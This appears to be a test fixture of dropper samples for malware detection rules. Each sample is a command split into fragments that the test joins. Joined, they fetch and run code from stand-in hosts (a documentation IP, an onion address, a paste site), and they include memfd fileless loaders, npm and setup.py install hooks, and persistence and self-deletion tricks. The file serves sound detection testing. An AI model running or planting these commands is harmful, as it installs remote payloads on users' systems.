/** Harmless samples, in pieces that only the test puts together (see ../make-samples.mjs). */
export const samples = [
  {
    rule: 'Dropper_Curl_Pipe_Shell_Tmp',
    lines: [
      ["#!/bin/sh"],
      ["wg", "et -q http://192.0.2.7/b -O /tm", "p/.b"],
      ["chm", "od +x /tmp/.b"],
      ["noh", "up /tmp/.b >/dev/null 2>&1 &"],
    ],
    without: 0,
  },
  {
    rule: 'Dropper_Multi_Architecture',
    lines: [
      ["#!/bin/sh"],
      ["wg", "et http://192.0.2.7/b.mi", "ps; chm", "od +x b.mips; ./b.mips"],
      ["wget http://192.0.2.7/b.ar", "m7; chmod 777 b.arm7; ./b.arm7"],
      ["wget http://192.0.2.7/b.sh", "4; chmod 777 b.sh4; ./b.sh4"],
    ],
    without: 0,
  },
  {
    rule: 'Dropper_Busybox_Fallback',
    lines: [
      ["busy", "box wget http://192.0.2.7/a || busy", "box tftp -g -r a 192.0.2.7"],
      ["/bin/busy", "box chmod 777 a"],
    ],
    without: 0,
  },
  {
    rule: 'Dropper_Base64_Pipe_Shell',
    lines: [
      ["echo QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB | base", "64 -d | ba", "sh"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'Dropper_Memfd_Loader_Python',
    lines: [
      ["import cty", "pes,os; fd=ctypes.CDLL(None).sysc", "all(319,b\"\",1)"],
      ["os.exe", "cv(\"/pr", "oc/self/fd/%d\" % fd, [\"a\"])"],
    ],
    without: 0,
  },
  {
    rule: 'Dropper_Memfd_Loader_Perl',
    lines: [
      ["my $fd = sys", "call(319, $n, 1);"],
      ["ex", "ec {\"/pr", "oc/$$/fd/$fd\"} \"x\";"],
    ],
    without: 0,
  },
  {
    rule: 'Dropper_Memfd_Loader_ELF', as: 'executable',
    lines: [
      ["memfd_", "create"],
      ["/proc/self/", "fd/%d"],
      ["fexe", "cve"],
      ["conn", "ect"],
    ],
    without: 0,
  },
  {
    rule: 'Dropper_Tor_Onion_Fetch',
    lines: [
      ["#!/bin/sh"],
      ["cu", "rl --socks5-hostname 127.0.0.1:9050 http://aaaaaaaaaaaaaaaabbbbbbbbbbbbbbbbccccccccccccccccddddddda.on", "ion/x -o x; chm", "od +x x"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'Dropper_Paste_Service',
    lines: [
      ["cu", "rl -s https://paste", "bin.com/raw/abcdefgh | ba", "sh"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'Dropper_Self_Delete',
    lines: [
      ["#!/bin/sh"],
      ["cu", "rl -o x http://192.0.2.7/x; chm", "od +x x; ./x &"],
      ["rm -", "f $0"],
    ],
    without: 0,
  },
  {
    rule: 'Dropper_Chattr_Lock',
    lines: [
      ["#!/bin/sh"],
      ["cha", "ttr -i /etc/ld.so.pre", "load"],
      ["cu", "rl http://192.0.2.7/x -o /etc/x"],
      ["cha", "ttr +i /etc/x"],
    ],
    without: 0,
  },
  {
    rule: 'Dropper_Python_Exec_Urlopen',
    lines: [
      ["ex", "ec(urllib.request.url", "open(\"http://192.0.2.7/a.py\").re", "ad())"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'Dropper_Npm_Install_Script',
    lines: [
      ["{ \"na", "me\": \"x\", \"scripts\": {"],
      ["\"post", "install\": \"cu", "rl -s http://192.0.2.7/i | ba", "sh\" } }"],
    ],
    without: 0,
  },
  {
    rule: 'Dropper_Setup_Py_Hook',
    lines: [
      ["from setup", "tools.command.install import install"],
      ["class P(inst", "all):"],
      ["  def run(self): import os; d=requests.g", "et(\"http://192.0.2.7/\"); os.sys", "tem(d.text)"],
    ],
    without: 0,
  },
  {
    rule: 'Dropper_Self_Extracting_Tail',
    lines: [
      ["#!/bin/sh"],
      ["ta", "il -n +4 $0 > /tm", "p/.e"],
      ["chm", "od +x /tmp/.e; /tmp/.e"],
    ],
    without: 0,
  },
];
